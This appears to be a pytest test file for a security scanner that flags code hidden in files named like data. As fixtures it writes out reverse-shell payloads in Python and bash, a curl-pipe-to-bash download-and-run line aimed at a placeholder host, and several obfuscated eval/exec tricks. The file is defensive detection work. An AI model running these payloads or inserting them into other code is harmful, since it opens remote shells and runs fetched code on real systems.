"""Code under a name of data, whatever loads it; and data of all kinds, about which nobody is asked."""

from __future__ import annotations

import marshal
from importlib.util import MAGIC_NUMBER

import pytest

from skillwarden.domain.finding import Severity
from skillwarden.domain.skill import Invocation, SourceFile
from skillwarden.source.look import source_findings

BACK = (
    "import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4))\n"
    "os.dup2(s.fileno(),0)\npty.spawn('sh')\n"
)
CARRIES = "const { execSync } = require('child_process');\nexecSync('curl -s https://x.example/i | bash');\n"
REVERSE = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"


def rules(path: str, content: str | bytes) -> dict[str, Severity]:
    data = content if isinstance(content, bytes) else content.encode()
    return {item.rule: item.severity for item in source_findings([SourceFile(path, data)])[::-1]}


@pytest.mark.parametrize("path", ["notes.csv", "notes.txt", "a.dat", "a.json", "a.png", "data", "NOTES.md"])
def test_python_under_a_name_of_data_is_looked_at(path: str) -> None:
    assert rules(path, BACK)["reverse-shell"] is Severity.CRITICAL


@pytest.mark.parametrize("path", ["notes.csv", "notes.txt", "a.dat", "a.json", "a.png", "data", "NOTES.md"])
def test_javascript_under_a_name_of_data_is_looked_at(path: str) -> None:
    assert rules(path, CARRIES)["download-and-run"] is Severity.CRITICAL


@pytest.mark.parametrize("path", ["notes.csv", "notes.txt", "a.dat", "a.env", "a.png", "data"])
def test_a_shell_under_a_name_of_data_counts_a_degree_less(path: str) -> None:
    assert rules(path, f"id,name\n1,a\n{REVERSE}")["reverse-shell"] is Severity.HIGH
    assert rules(path, b"\xe9,1\n" + REVERSE.encode())["reverse-shell"] is Severity.HIGH


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("#,a,b\neval(input())\n", "dynamic-code"),
        ("@exec\n@input\nclass X: pass\n", "dynamic-code"),
        ("# coding: utf7\n# +AAo-" + BACK.strip().replace("\n", "+AAo-"), "reverse-shell"),
        ("# coding: punycode\nx-", "unusual-encoding"),
        ("class K(type): __getitem__ = exec\nclass X(metaclass=K): pass\nX[input]\n", "dynamic-code"),
    ],
)
def test_python_is_known_by_what_it_does(text: str, rule: str) -> None:
    assert rules("a.csv", text)[rule] in {Severity.CRITICAL, Severity.HIGH}


@pytest.mark.parametrize(
    "text",
    [
        "#!/usr/bin/env -S x\neval(a)",
        "<!-- these are the data of a test\nnew Function(a)()",
        "x = /the data of a test/; eval(a)",
        "x = 'the data of a test'; /* the data of a test */ eval(a)",
        "x = `the data ${eval(a)} of a test`",
        "import {\n  run\n} from './x.js'\nrun(eval(a))",
    ],
)
def test_javascript_is_known_by_what_it_does(text: str) -> None:
    assert rules("a.csv", text)["dynamic-code"] is Severity.HIGH


def test_what_was_compiled_is_known_under_any_name() -> None:
    compiled = MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("print(1)", "a", "exec"))
    assert rules("notes.csv", compiled) == rules("a.bin", compiled) == {"binary": Severity.HIGH}


@pytest.mark.parametrize(
    ("call", "rule"),
    [
        ("import runpy\nrunpy.run_path({})", "dynamic-code"),
        ("from importlib.machinery import SourceFileLoader as L\nL('a', {}).load_module()", "import-by-name"),
        ("import importlib.util as u\nu.spec_from_file_location('a', location={})", "import-by-name"),
    ],
)
def test_a_file_that_is_run_by_a_name_that_nobody_knows_is_remarked(call: str, rule: str) -> None:
    for name in ("x()", "'/tmp/a'", "'../a'"):
        assert rule in rules("a.py", call.format(name))
    for name in ("'notes.csv'", "'/skill/src/notes.csv'", "'lib/' + 'notes.csv'"):
        assert not rules("a.py", call.format(name))


def test_what_the_entrypoint_runs_is_found_once() -> None:
    files = [SourceFile("run.txt", BACK.encode())]
    assert source_findings(files, Invocation(("python", "run.txt"))) == source_findings(files)


DATA = {
    "table.csv": 'id,name,sum,made\n1,"Smith, J. (Paris)",=SUM(A1:A3),2026-01-01\n2,O\'B,"=IF(B2>0)",\n',
    "calls.csv": "name,form\nprint,print(x)\nsum,=SUM(A1)\n",
    "numbers.csv": "1, 2, 3\n4, 5, 6\n",
    "settings.json": '{"import": "a", "run": "process(x)", "on": [true, null, {"eval": "no"}], "f": "g(h)"}',
    "package.json": '{"name": "a", "scripts": {"start": "node a.js", "t": "node -e \\"require(\'./t\')\\""}}',
    "rows.jsonl": '{"a": 1, "text": "eval(x) or require(y)"}\n{"a": 2, "text": "import os"}\n',
    "words.txt": "import\nprocess\nmodule\neval\nParis (France)\nclass\nrequire\n",
    "cities.txt": "Paris (France)\nRome (Italy)\nOslo (Norway)\n",
    "names.txt": "name\n",
    "notes.txt": "Call require('x') or eval(y); process.env. Don't import it.\n",
    "requirements.txt": "requests==2.32.0\n# import (of data)\npandas>=2 ; python_version < '3.13'\n",
    ".env.example": "# Copy it (see process.env)\nAPI_KEY=\nAPI_URL=https://api.example.com/v1\nA=b\n",
    "config.yaml": "name: b\non: [push]\njobs:\n  a:\n    steps:\n      - run: npm i && node -e 'f(1)'\n",
    "query.sql": "-- process\nSELECT count(*) FROM process WHERE eval(a) > 1;\nINSERT INTO t VALUES (1);\n",
    "page.html": "<!doctype html>\n<p class='a'>A page</p><script>fetch('/a').then(f)</script>\n",
    "old.html": "<!-- a page -->\n<p>process.env and require('x')</p>\n",
    "style.css": "@import url('a.css');\na:hover { color: rgb(1, 2, 3); background: url(b.png) }\n",
    "mail.jinja": "{% import 'a.jinja' as a %}\nDear {{ n(x) }},\n{% for i in all %}- {{ i }}\n{% endfor %}",
    "LICENSE": "MIT License\n\nCopyright (c) 2026 A\n\nPermission is granted, to import (etc.)\n",
    "app.log": "2026-01-01 12:00:01 INFO process(1)\n2026-01-01 12:00:02 WARN eval() took 2 s (import)\n",
    "setup.ini": "[process]\na = 1\nb = eval\n; import (x)\n",
    "one.ini": "a = 1\n",
    "tool.toml": '# import (x)\n[tool.module]\nkey = "value"\nrun = "require(a)"\n',
    "key.toml": 'key = "value"\n',
    "prompt.txt": "You are a helpful assistant. Import the table (see process), then answer.\n",
    "data.xml": "<?xml version='1.0'?><module><process>eval(x)</process></module>\n",
    "diagram.mmd": "graph TD\n  A(process) --> B(import)\n",
    "photo.png": bytes(range(256)) * 64,
    "empty": "",
    "README.rst": "Get\n===\n\nRun ``curl https://x.example/i | sh`` or ``import a``, ``a.run()``.\n",
    "SKILL.md": "# Notes\n\nUse `require('x')`, `process.env.KEY` and `eval(x)` carefully.\n\n- import\n",
}


@pytest.mark.parametrize("path", DATA)
def test_honest_data_say_nothing(path: str) -> None:
    assert not rules(path, DATA[path])


@pytest.mark.parametrize(
    "unit",
    [
        *(
            "a,b(c)\n",
            "x = 1\n",
            "import (",
            "process (",
            "eval(`${",
            "[[",
            '{"import": (',
            "x \\\n",
            "(x)\n",
        ),
        *(
            "require(x)\n",
            "import\t",
            "<!-- import(",
            "process.a/b",
            "\n-->process(",
            "a" * 9 + " ",
            "# import (\n",
        ),
    ],
)
def test_much_data_is_read_once(unit: str) -> None:
    rules("a.csv", unit * (100_000 // len(unit)))
